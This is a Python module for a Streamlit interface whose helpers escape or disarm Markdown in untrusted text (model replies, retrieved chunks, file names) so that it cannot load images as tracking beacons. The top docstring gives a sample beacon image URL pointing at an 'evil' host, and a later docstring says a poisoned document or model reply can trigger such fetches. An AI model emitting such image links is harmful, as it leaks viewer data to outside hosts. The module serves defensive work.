"""Untrusted text on screen. Streamlit renders Markdown almost everywhere: st.markdown, captions,
titles, alerts, toasts, widget labels and help, radio and segmented options, tabs, metrics,
expander labels and st.table cells. An image in any of them (`![x](https://evil/?who=you)`,
inline or reference-style) makes the viewer's browser fetch it: a beacon. So every text this
UI renders is `Markdown`, and only these helpers make it:

- `md(template, *values)`: a literal template of ours with values filled in; every value is
  escaped to read literally unless it is already `Markdown`;
- `plain(value)`: any text, escaped to read literally (file names, titles, errors, columns);
- `inert(text)`: text meant as Markdown (model replies, chunk bodies, the user's own
  message): formatting kept, images disarmed (Streamlit never renders raw HTML here);
- `join(separator, parts)`: Markdown parts joined, any other part escaped;
- `plain_table(rows)`: rows for st.table, every key and string cell escaped.

tests/test_untrusted_text.py reads the UI code and fails on any rendering call whose text
does not come from one of these (or from a function declared to return `Markdown`).
"""

from __future__ import annotations

import re
import string
from collections.abc import Iterable, Mapping
from typing import Any


class Markdown(str):
    """Markdown this app composed: its own literals, and outside text escaped or disarmed."""

    __slots__ = ()

    def __add__(self, other: str) -> Markdown:  # Markdown + Markdown stays Markdown
        return Markdown(str.__add__(self, other if isinstance(other, Markdown)
                                    else plain(other)))


# Characters that can start Markdown (or Streamlit's extensions: :directives:, $math$)
# anywhere in a line, and those that matter only at the start of one.
_INLINE = re.compile(r"([\\`*_\[\]<>!|~:$])")
_LINE_START = re.compile(r"^(\s*)(?:([#>=+\-])|(\d+)([.)]))", re.MULTILINE)


def plain(value: object) -> Markdown:
    """Any value as Markdown that reads literally: nothing in it can form an image, a link,
    markup, a directive or math."""
    if isinstance(value, Markdown):
        return value
    text = _INLINE.sub(r"\\\1", str(value))
    return Markdown(_LINE_START.sub(_escape_line_start, text))


def _escape_line_start(m: re.Match[str]) -> str:
    """`# x` -> `\\# x`; `1. x` -> `1\\. x` (a digit cannot be escaped, its dot can)."""
    if m.group(2):
        return f"{m.group(1)}\\{m.group(2)}"
    return f"{m.group(1)}{m.group(3)}\\{m.group(4)}"


# What could end a code span early: a backtick (of any run length) closes it, and a line
# break lets the next line open a block of its own (a blank line, a quote, a heading, a list,
# a fence, a link definition) that leaves the span, and the image after it, unclosed.
_CODE_BREAKS = str.maketrans({"`": "ˋ", "\r": "␍", "\n": "␊"})


def _in_code(text: str) -> Markdown:
    """A value placed inside a `code span` of a template: backslashes would show there, so
    only what could end the span early is replaced by a look-alike (backticks, line breaks)."""
    return Markdown(str(text).translate(_CODE_BREAKS))


def code(value: object) -> Markdown:
    """Any value (a tool's name, an id a model chose) as an inline code span that nothing in
    it can leave."""
    return md("`{}`", value)


def md(template: str, *args: object, **kwargs: object) -> Markdown:
    """Fill a template of ours ({} fields, str.format specs) with values escaped to read
    literally (inside backticks: kept, minus backticks). Markdown values and numbers go in
    as they are."""
    out, code, auto = [], False, 0
    for literal, field, spec, conversion in string.Formatter().parse(template):
        out.append(literal)
        code ^= literal.count("`") % 2 == 1
        if field is None:
            continue
        if field == "":
            value: Any = args[auto]
            auto += 1
        elif field.isdigit():
            value = args[int(field)]
        else:
            value = kwargs[field]
        if conversion == "r":
            value = repr(value)
        elif conversion == "s":
            value = str(value)
        if isinstance(value, int | float) and not isinstance(value, bool):
            value = format(value, spec or "")  # digits and , . - % e: nothing can form
        elif not isinstance(value, Markdown):
            value = format(value, spec or "")
            value = _in_code(value) if code else plain(value)
        out.append(value)
    return Markdown("".join(out))


def join(separator: str, parts: Iterable[object]) -> Markdown:
    """Parts joined by a separator of ours; a part that is not Markdown is escaped."""
    return Markdown(separator.join(plain(p) for p in parts))


def inert(text: object) -> Markdown:
    """Model output, document text or the user's own message as Markdown, minus images: a
    reply or a poisoned document could otherwise make the browser fetch one."""
    return Markdown(str(text).replace("![", "!\\["))


def plain_table(rows: Iterable[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """Rows for st.table (which renders cells as Markdown): keys and string cells escaped."""
    return [{plain(k): plain(v) if isinstance(v, str) else v for k, v in row.items()}
            for row in rows]
